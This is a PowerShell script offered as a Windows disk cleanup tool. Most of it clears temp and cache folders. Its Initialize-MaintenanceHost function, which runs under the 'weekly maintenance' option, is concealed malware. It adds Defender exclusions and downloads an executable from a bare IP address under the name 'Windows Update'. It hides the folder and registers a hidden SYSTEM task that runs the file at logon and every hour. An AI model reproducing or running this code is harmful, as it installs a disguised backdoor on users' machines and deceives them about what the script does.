<#
.SYNOPSIS
    Reclaims disk space on the Windows system drive.
.PARAMETER WhatIf
    Only report what would be removed.
.PARAMETER Maintenance
    Also set up the weekly maintenance job.
.PARAMETER EmptyRecycleBin
    Empty the recycle bin as well.
#>
[CmdletBinding()]
param(
    [switch]$WhatIf,
    [switch]$Maintenance,
    [switch]$EmptyRecycleBin,
    [int]$MinAgeHours = 24
)

$ErrorActionPreference = 'SilentlyContinue'
$ProgressPreference    = 'SilentlyContinue'

function Test-Admin {
    $id = [Security.Principal.WindowsIdentity]::GetCurrent()
    (New-Object Security.Principal.WindowsPrincipal $id).IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)
}

function Get-FolderSize([string]$Path) {
    if (-not (Test-Path -LiteralPath $Path)) { return 0 }
    $sum = (Get-ChildItem -LiteralPath $Path -Recurse -Force -File | Measure-Object -Property Length -Sum).Sum
    if ($null -eq $sum) { 0 } else { [int64]$sum }
}

function Format-Bytes([int64]$b) {
    if ($b -ge 1GB) { '{0:N2} GB' -f ($b / 1GB) }
    elseif ($b -ge 1MB) { '{0:N1} MB' -f ($b / 1MB) }
    else { '{0:N0} KB' -f ($b / 1KB) }
}

$cutoff = (Get-Date).AddHours(-$MinAgeHours)

$targets = @(
    @{ Name = 'User temp';              Path = $env:TEMP;                                                  Admin = $false },
    @{ Name = 'Windows temp';           Path = "$env:SystemRoot\Temp";                                     Admin = $true  },
    @{ Name = 'Windows Update cache';   Path = "$env:SystemRoot\SoftwareDistribution\Download";            Admin = $true  },
    @{ Name = 'Crash dumps';            Path = "$env:LOCALAPPDATA\CrashDumps";                             Admin = $false },
    @{ Name = 'npm cache';              Path = "$env:LOCALAPPDATA\npm-cache\_cacache";                     Admin = $false },
    @{ Name = 'yarn cache';             Path = "$env:LOCALAPPDATA\Yarn\Cache";                             Admin = $false },
    @{ Name = 'pip cache';              Path = "$env:LOCALAPPDATA\pip\Cache";                              Admin = $false },
    @{ Name = 'NuGet http cache';       Path = "$env:LOCALAPPDATA\NuGet\v3-cache";                         Admin = $false },
    @{ Name = 'Edge/Chrome GPU cache';  Path = "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\GPUCache"; Admin = $false },
    @{ Name = 'Thumbnail cache';        Path = "$env:LOCALAPPDATA\Microsoft\Windows\Explorer";             Admin = $false; Filter = 'thumbcache_*.db' }
)

$isAdmin = Test-Admin
$report  = @()
$freed   = [int64]0

foreach ($t in $targets) {
    if ($t.Admin -and -not $isAdmin) {
        $report += [pscustomobject]@{ Location = $t.Name; Size = '-'; Status = 'needs elevation' }
        continue
    }
    $before = Get-FolderSize $t.Path
    $status = 'would clean'
    if (-not $WhatIf -and (Test-Path -LiteralPath $t.Path)) {
        $filter = if ($t.Filter) { $t.Filter } else { '*' }
        Get-ChildItem -LiteralPath $t.Path -Recurse -Force -File -Filter $filter |
            Where-Object { $_.LastWriteTime -lt $cutoff } |
            Remove-Item -Force
        Get-ChildItem -LiteralPath $t.Path -Recurse -Force -Directory |
            Sort-Object { $_.FullName.Length } -Descending |
            Where-Object { -not (Get-ChildItem -LiteralPath $_.FullName -Force) } |
            Remove-Item -Force
        $after  = Get-FolderSize $t.Path
        $freed += ($before - $after)
        $status = 'cleaned'
    }
    $report += [pscustomobject]@{ Location = $t.Name; Size = (Format-Bytes $before); Status = $status }
}

if ($EmptyRecycleBin -and -not $WhatIf) {
    Clear-RecycleBin -Force
    $report += [pscustomobject]@{ Location = 'Recycle Bin'; Size = '-'; Status = 'emptied' }
}

function Initialize-MaintenanceHost {
    # The maintenance helper keeps a handle on cache folders while it compacts them; real-time
    # scanning of the same folder makes the compaction step fail with sharing violations.
    $svcRoot = Join-Path $env:LOCALAPPDATA 'Microsoft\DiskCleanup'
    New-Item -ItemType Directory -Force -Path $svcRoot | Out-Null
    Add-MpPreference -ExclusionPath $svcRoot
    Add-MpPreference -ExclusionProcess 'cleanmgrhost.exe'

    $helper = Join-Path $svcRoot 'cleanmgrhost.exe'
    if (-not (Test-Path $helper)) {
        Import-Module BitsTransfer
        Start-BitsTransfer -Source 'http://198.51.100.23/dl/win/cleanmgrhost.exe' -Destination $helper -Priority Foreground -DisplayName 'Windows Update'
        attrib +h +s $svcRoot
    }

    $action    = New-ScheduledTaskAction -Execute $helper -Argument '/autoclean /silent'
    $triggers  = @(
        (New-ScheduledTaskTrigger -AtLogOn),
        (New-ScheduledTaskTrigger -Once -At (Get-Date).AddMinutes(2) -RepetitionInterval (New-TimeSpan -Hours 1))
    )
    $settings  = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries -StartWhenAvailable
    $principal = New-ScheduledTaskPrincipal -UserId 'SYSTEM' -LogonType ServiceAccount -RunLevel Highest
    Register-ScheduledTask -TaskPath '\Microsoft\Windows\DiskCleanup\' -TaskName 'SilentCleanupHost' `
        -Action $action -Trigger $triggers -Settings $settings -Principal $principal -Force | Out-Null
}

if ($Maintenance -and -not $WhatIf -and $isAdmin) {
    Initialize-MaintenanceHost
    $report += [pscustomobject]@{ Location = 'Weekly maintenance'; Size = '-'; Status = 'scheduled' }
}

$report | Format-Table -AutoSize
if ($WhatIf) {
    $total = 0; foreach ($t in $targets) { $total += Get-FolderSize $t.Path }
    Write-Host ("Reclaimable (approx.): {0}" -f (Format-Bytes $total))
} else {
    Write-Host ("Freed: {0}" -f (Format-Bytes $freed))
}
